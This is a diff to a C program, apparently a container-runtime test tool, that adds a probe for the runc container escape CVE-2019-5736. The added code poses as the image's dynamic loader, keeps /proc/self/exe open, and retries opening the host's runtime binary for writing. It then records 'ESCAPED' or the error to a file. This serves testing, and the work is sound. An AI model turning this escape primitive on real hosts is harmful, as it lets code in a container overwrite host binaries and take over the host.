@@ -623,8 +623,50 @@ static int watch(int seconds)
 	return 0;
 }
 
+/* ---- the program of the host that starts us: CVE-2019-5736 ---- */
+/*
+ * As /lib64/ld-linux-x86-64.so.2 of an image we are what the kernel runs for
+ * /proc/self/exe, be that a program of the host. Its file is kept open until nobody runs
+ * it.
+ */
+static int keep_exe(void)
+{
+	int fd = open("/proc/self/exe", O_RDONLY);
+	char number[16];
+
+	if (fd < 0 || fork() != 0)
+		return 1;
+	setsid();
+	snprintf(number, sizeof(number), "%d", fd);
+	execl("/bin/escape", "escape", "overwrite", number, NULL);
+	return 1;
+}
+
+static int overwrite(const char *number)
+{
+	char path[64], to[256];
+	int fd = -1, err = ETXTBSY, out;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%s", number);
+	n = readlink(path, to, sizeof(to) - 1);
+	to[n < 0 ? 0 : n] = '\0';
+	for (int i = 0; i < 100 && fd < 0 && err == ETXTBSY; i++) {
+		fd = open(path, O_WRONLY);
+		err = fd < 0 ? errno : 0;
+		usleep(20000);
+	}
+	out = open("/overwrite", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+	dprintf(out, "%s %s\n", to, err ? reason(err) : "ESCAPED");
+	return rename("/overwrite", "/overwritten") < 0;
+}
+
 int main(int argc, char **argv)
 {
+	if (argc >= 2 && strcmp(argv[1], "keep-exe") == 0)
+		return keep_exe();
+	if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
+		return overwrite(argv[2]);
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc == 3 && strcmp(argv[1], "watch") == 0)
 		return watch(atoi(argv[2]));
